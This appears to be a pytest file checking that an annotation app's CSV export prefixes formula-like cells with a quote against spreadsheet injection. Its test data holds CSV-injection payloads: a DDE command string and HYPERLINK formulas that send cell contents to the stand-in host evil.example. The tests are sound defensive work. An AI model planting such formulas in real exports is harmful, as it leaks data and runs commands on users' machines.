"""CSV exports are spreadsheet-safe: texts and label names that a spreadsheet would run as a
formula come out prefixed with ``'`` (OWASP); the JSONL export keeps them exactly."""

from __future__ import annotations

import csv
import io
import json

from fastapi import FastAPI
from sqlalchemy.orm import Session

from tests.app.api.support import lead_with_project
from tests.factories import make_items

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?q="&A1, "click")',
    "+1 great product",
    "-2 degrees outside",
    "@SUM(A1:A9)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
]
EVIL_LABEL = '=HYPERLINK("http://evil.example","x")'


def test_formula_cells_in_texts_and_label_names_are_prefixed_in_csv_only(
    app: FastAPI, db: Session
) -> None:
    lead, project = lead_with_project(app, db, labels=(EVIL_LABEL, "@mention", "plain"))
    items = make_items(db, project, [*FORMULAS, "an ordinary text"])
    db.commit()
    url = f"/api/v1/projects/{project.id}/annotations"
    labels = [EVIL_LABEL, "@mention", "plain"]
    body = {"annotations": [{"item_id": item.id, "label": labels[i % 3]}
                            for i, item in enumerate(items)]}
    assert lead.post(url, json=body).status_code == 200

    exported = lead.get(f"{url}/export", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    by_id = {int(row["item_id"]): row for row in rows}
    for i, item in enumerate(items):
        row = by_id[item.id]
        expected_label = labels[i % 3]
        assert row["label"] == ("'" + expected_label if expected_label != "plain"
                                else expected_label)
        expected_text = item.text if item.text == "an ordinary text" else "'" + item.text
        assert row["text"] == expected_text
        assert not row["text"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert int(rows[0]["annotation_id"]) > 0  # numbers stay numbers

    as_jsonl = lead.get(f"{url}/export", params={"format": "jsonl"})
    records = [json.loads(line) for line in as_jsonl.text.splitlines() if line]
    assert sorted(r["text"] for r in records) == sorted(item.text for item in items)
    assert {r["label"] for r in records} == set(labels)


def test_safe_cell_prefixes_only_texts_that_start_a_formula() -> None:
    from app.security.spreadsheet import safe_cell, safe_row

    assert [safe_cell(v) for v in ("=1+1", "+1", "-x", "@a", "\tx", "\rx")] == [
        "'=1+1", "'+1", "'-x", "'@a", "'\tx", "'\rx"]
    assert safe_cell("fine = ok") == "fine = ok" and safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_row({"arm": "-random", "seed": 0}) == {"arm": "'-random", "seed": 0}
